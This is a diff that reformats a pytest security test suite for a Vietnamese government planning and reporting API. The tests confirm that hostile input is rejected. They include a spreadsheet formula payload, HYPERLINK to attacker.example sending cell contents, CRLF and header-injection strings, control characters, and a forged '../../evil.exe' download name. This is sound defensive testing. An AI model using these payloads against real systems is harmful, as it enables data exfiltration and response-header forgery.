@@ -52,8 +52,18 @@ BAD_CHARACTERS = [
 ]
 FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Xem")', "+1", "-1+1", "@SUM(A1)"]
 WATCHED: tuple[type[SQLModel], ...] = (
-    AuditEvent, Task, ProgressUpdate, Plan, PlanSection, Document, Report, Unit, User,
-    Obligation, Indicator, IndicatorValue,
+    AuditEvent,
+    Task,
+    ProgressUpdate,
+    Plan,
+    PlanSection,
+    Document,
+    Report,
+    Unit,
+    User,
+    Obligation,
+    Indicator,
+    IndicatorValue,
 )
 ISSUE_TEXTS = {
     "shortcomings": "Còn chậm.",
@@ -71,7 +81,9 @@ def _counts(world: World) -> dict[str, int]:
         }
 
 
-def _send(world: World, method: str, url: str, body: Any, headers: dict[str, str]) -> httpx.Response:
+def _send(
+    world: World, method: str, url: str, body: Any, headers: dict[str, str]
+) -> httpx.Response:
     """JSON with \\u escapes: a lone surrogate cannot be encoded as UTF-8, an attacker sends
     it escaped."""
     return world.client.request(
@@ -103,42 +115,72 @@ class Reporting:
         return self.world.headers("lead", Role.LEADER)
 
     def new_task(self, title: str) -> dict[str, Any]:
-        return _ok(_send(self.world, "POST", "/api/v1/tasks", {
-            "title": title,
-            "lead_unit_id": self.world.unit_id("lead"),
-            "plan_id": self.plan_id,
-            "assigned_on": today_iso(-20),
-            "deadline": {"kind": "date", "due_on": today_iso(-5)},
-        }, self.issuer))
+        return _ok(
+            _send(
+                self.world,
+                "POST",
+                "/api/v1/tasks",
+                {
+                    "title": title,
+                    "lead_unit_id": self.world.unit_id("lead"),
+                    "plan_id": self.plan_id,
+                    "assigned_on": today_iso(-20),
+                    "deadline": {"kind": "date", "due_on": today_iso(-5)},
+                },
+                self.issuer,
+            )
+        )
 
     def draft(self, *, issuer_code: str = "SNV", texts: dict[str, Any] | None = None) -> Any:
-        return _send(self.world, "POST", "/api/v1/reports", {
-            "kind": "year",
-            "period": str(clock.today().year),
-            "unit_id": self.world.unit_id("lead"),
-            "plan_id": self.plan_id,
-            "as_of": today_iso(),
-            "issuer_code": issuer_code,
-            "texts": ISSUE_TEXTS if texts is None else texts,
-        }, self.lead)
+        return _send(
+            self.world,
+            "POST",
+            "/api/v1/reports",
+            {
+                "kind": "year",
+                "period": str(clock.today().year),
+                "unit_id": self.world.unit_id("lead"),
+                "plan_id": self.plan_id,
+                "as_of": today_iso(),
+                "issuer_code": issuer_code,
+                "texts": ISSUE_TEXTS if texts is None else texts,
+            },
+            self.lead,
+        )
 
     def issued(self, *, issuer_code: str = "SNV") -> dict[str, Any]:
         report = _ok(self.draft(issuer_code=issuer_code))
-        return _ok(_send(self.world, "POST", f"/api/v1/reports/{report['id']}/issue",
-                         {"version": report["version"]}, self.lead))
+        return _ok(
+            _send(
+                self.world,
+                "POST",
+                f"/api/v1/reports/{report['id']}/issue",
+                {"version": report["version"]},
+                self.lead,
+            )
+        )
 
     def download(self, report_id: int, file_format: str) -> httpx.Response:
-        return self.world.client.get(f"/api/v1/reports/{report_id}/files/{file_format}",
-                                     headers=self.lead)
+        return self.world.client.get(
+            f"/api/v1/reports/{report_id}/files/{file_format}", headers=self.lead
+        )
 
 
 @pytest.fixture
 def reporting(world: World) -> Reporting:
-    plan = _ok(_send(world, "POST", "/api/v1/plans", {
-        "title": f"Kế hoạch kiểm thử bảo mật {world.next()}",
-        "issuer_unit_id": world.unit_id("issuer"),
-        "sections": ["Mục I"],
-    }, world.headers("issuer", Role.LEADER)))
+    plan = _ok(
+        _send(
+            world,
+            "POST",
+            "/api/v1/plans",
+            {
+                "title": f"Kế hoạch kiểm thử bảo mật {world.next()}",
+                "issuer_unit_id": world.unit_id("issuer"),
+                "sections": ["Mục I"],
+            },
+            world.headers("issuer", Role.LEADER),
+        )
+    )
     return Reporting(world=world, plan_id=plan["id"])
 
 
@@ -169,8 +211,11 @@ Attack = Callable[[Reporting, str], tuple[str, str, Any, dict[str, str], str]]
 
 
 def _task_create(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
-    body = {"title": f"Nhiệm vụ {bad}", "lead_unit_id": r.world.unit_id("lead"),
-            "deadline": {"kind": "none"}}
+    body = {
+        "title": f"Nhiệm vụ {bad}",
+        "lead_unit_id": r.world.unit_id("lead"),
+        "deadline": {"kind": "none"},
+    }
     return "POST", "/api/v1/tasks", body, r.issuer, "title"
 
 
@@ -198,8 +243,11 @@ def _plan_section(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str]
 
 
 def _document(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
-    body = {"symbol": f"{r.world.next()}/KH-UBND", "issued_on": today_iso(),
-            "summary": f"Trích yếu{bad}"}
+    body = {
+        "symbol": f"{r.world.next()}/KH-UBND",
+        "issued_on": today_iso(),
+        "summary": f"Trích yếu{bad}",
+    }
     return "POST", "/api/v1/documents", body, r.issuer, "summary"
 
 
@@ -210,9 +258,14 @@ def _report_section(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, st
 
 
 def _report_signature(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
-    body = {"kind": "year", "period": str(clock.today().year), "unit_id": r.world.unit_id("lead"),
-            "as_of": today_iso(), "issuer_code": "SNV",
-            "texts": {"signature": {"name": f"Lê Văn{bad}Ninh"}}}
+    body = {
+        "kind": "year",
+        "period": str(clock.today().year),
+        "unit_id": r.world.unit_id("lead"),
+        "as_of": today_iso(),
+        "issuer_code": "SNV",
+        "texts": {"signature": {"name": f"Lê Văn{bad}Ninh"}},
+    }
     return "POST", "/api/v1/reports", body, r.lead, "texts.signature.name"
 
 
@@ -223,15 +276,29 @@ def _unit(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
 
 
 def _obligation(r: Reporting, bad: str) -> tuple[str, str, Any, dict[str, str], str]:
-    body = {"title": "Báo cáo quý", "report_kind": "quarter",
-            "lead_unit_id": r.world.unit_id("lead"), "recipient": f"Sở{bad}Nội vụ"}
+    body = {
+        "title": "Báo cáo quý",
+        "report_kind": "quarter",
+        "lead_unit_id": r.world.unit_id("lead"),
+        "recipient": f"Sở{bad}Nội vụ",
+    }
     return "POST", "/api/v1/obligations", body, r.issuer, "recipient"
 
 
 ATTACKS = [
     pytest.param(attack, id=attack.__name__.strip("_"))
-    for attack in (_task_create, _task_note, _progress, _extension, _plan_section, _document,
-                   _report_section, _report_signature, _unit, _obligation)
+    for attack in (
+        _task_create,
+        _task_note,
+        _progress,
+        _extension,
+        _plan_section,
+        _document,
+        _report_section,
+        _report_signature,
+        _unit,
+        _obligation,
+    )
 ]
 
 
@@ -345,15 +412,23 @@ def test_an_indicator_import_with_a_control_character_or_year_9999_imports_nothi
     indicators = "code,name,unit_of_measure\nCT1,Chỉ tiêu một,hồ sơ\nCT2,Chỉ tiêu\x0bhai,hồ sơ\n"
     before = _counts(world)
 
-    rejected = world.client.post(url, headers=reporting.issuer,
-                                 files={"file": ("chi-tieu.csv", indicators.encode(), "text/csv")})
+    rejected = world.client.post(
+        url,
+        headers=reporting.issuer,
+        files={"file": ("chi-tieu.csv", indicators.encode(), "text/csv")},
+    )
 
     assert rejected.status_code == 422, rejected.text
     assert [(e["row"], e["field"]) for e in rejected.json()["detail"]] == [(3, "name")]
     assert _counts(world) == before
 
-    _ok(world.client.post(url, headers=reporting.issuer, files={
-        "file": ("chi-tieu.csv", indicators.replace("\x0b", " ").encode(), "text/csv")}))
+    _ok(
+        world.client.post(
+            url,
+            headers=reporting.issuer,
+            files={"file": ("chi-tieu.csv", indicators.replace("\x0b", " ").encode(), "text/csv")},
+        )
+    )
     period = clock.today().year
     values = (
         "indicator_code,unit_code,period_kind,period_code,value,reported_on,note\n"
@@ -364,13 +439,15 @@ def test_an_indicator_import_with_a_control_character_or_year_9999_imports_nothi
     before = _counts(world)
 
     refused = world.client.post(
-        f"/api/v1/plans/{reporting.plan_id}/indicator-values/import", headers=reporting.issuer,
+        f"/api/v1/plans/{reporting.plan_id}/indicator-values/import",
+        headers=reporting.issuer,
         files={"file": ("so-lieu.csv", values.encode(), "text/csv")},
     )
 
     assert refused.status_code == 422, refused.text
     assert [(e["row"], e["field"]) for e in refused.json()["detail"]] == [
-        (3, "reported_on"), (4, "note")
+        (3, "reported_on"),
+        (4, "note"),
     ]
     assert _counts(world) == before
 
@@ -387,7 +464,9 @@ def test_an_issued_snapshot_holding_control_characters_still_downloads(
         row = session.get(Report, report["id"])
         assert row is not None and row.snapshot is not None
         # Every place the title appears (figures, body sentences), and the trích yếu.
-        stored = json.dumps(row.snapshot).replace("c\\u0169", "c" + json.dumps(poison)[1:-1] + "\\u0169")
+        stored = json.dumps(row.snapshot).replace(
+            "c\\u0169", "c" + json.dumps(poison)[1:-1] + "\\u0169"
+        )
         snapshot = json.loads(stored)
         snapshot["header"]["summary"] += poison
         assert stored.count("\\u000b") >= 2
@@ -411,10 +490,30 @@ def test_an_issued_snapshot_holding_control_characters_still_downloads(
 
 @pytest.mark.parametrize(
     "issuer_code",
-    ["UB\r\nND", "UBND\n", 'UBND"', "UB'ND", "UBND;x=1", "UB ND", " UBND", "BC/UBND", "U" * 41,
-     "UBND\x0b"],
-    ids=["crlf", "trailing-lf", "double-quote", "quote", "semicolon", "space", "leading-space",
-         "slash", "too-long", "vertical-tab"],
+    [
+        "UB\r\nND",
+        "UBND\n",
+        'UBND"',
+        "UB'ND",
+        "UBND;x=1",
+        "UB ND",
+        " UBND",
+        "BC/UBND",
+        "U" * 41,
+        "UBND\x0b",
+    ],
+    ids=[
+        "crlf",
+        "trailing-lf",
+        "double-quote",
+        "quote",
+        "semicolon",
+        "space",
+        "leading-space",
+        "slash",
+        "too-long",
+        "vertical-tab",
+    ],
 )
 def test_an_issuer_code_outside_the_pattern_is_refused(
     reporting: Reporting, issuer_code: str
@@ -422,10 +521,18 @@ def test_an_issuer_code_outside_the_pattern_is_refused(
     before = _counts(reporting.world)
 
     drafted = reporting.draft(issuer_code=issuer_code)
-    obligation = _send(reporting.world, "POST", "/api/v1/obligations", {
-        "title": f"Báo cáo quý {reporting.world.next()}", "report_kind": "quarter",
-        "lead_unit_id": reporting.world.unit_id("lead"), "report_issuer_code": issuer_code,
-    }, reporting.issuer)
+    obligation = _send(
+        reporting.world,
+        "POST",
+        "/api/v1/obligations",
+        {
+            "title": f"Báo cáo quý {reporting.world.next()}",
+            "report_kind": "quarter",
+            "lead_unit_id": reporting.world.unit_id("lead"),
+            "report_issuer_code": issuer_code,
+        },
+        reporting.issuer,
+    )
 
     for response, field in ((drafted, "issuer_code"), (obligation, "report_issuer_code")):
         assert response.status_code == 422, response.text
@@ -469,8 +576,9 @@ def test_a_stored_symbol_with_header_characters_cannot_forge_the_download_name(
     assert response.status_code == 200
     disposition = response.headers["content-disposition"]
     assert "set-cookie" not in {key.lower() for key in response.headers}
-    ascii_name = re.fullmatch(r'attachment; filename="([A-Za-z0-9._-]+)"; filename\*=\S+',
-                              disposition)
+    ascii_name = re.fullmatch(
+        r'attachment; filename="([A-Za-z0-9._-]+)"; filename\*=\S+', disposition
+    )
     assert ascii_name is not None and "/" not in unquote(disposition)
     assert ascii_name[1] == "bao-cao-01-BC-X-Set-Cookie-a-b-filename-..-..-evil.exe.md"
 
@@ -487,10 +595,17 @@ def test_the_command_line_refuses_dates_outside_the_api_range() -> None:
 def test_a_task_due_in_year_9999_is_refused_by_the_api(reporting: Reporting) -> None:
     before = _counts(reporting.world)
 
-    response = _send(reporting.world, "POST", "/api/v1/tasks", {
-        "title": "Nhiệm vụ xa", "lead_unit_id": reporting.world.unit_id("lead"),
-        "deadline": {"kind": "date", "due_on": "9999-12-31"},
-    }, reporting.issuer)
+    response = _send(
+        reporting.world,
+        "POST",
+        "/api/v1/tasks",
+        {
+            "title": "Nhiệm vụ xa",
+            "lead_unit_id": reporting.world.unit_id("lead"),
+            "deadline": {"kind": "date", "due_on": "9999-12-31"},
+        },
+        reporting.issuer,
+    )
 
     assert response.status_code == 422
     assert response.json()["detail"][0]["field"] == "deadline.date.due_on"
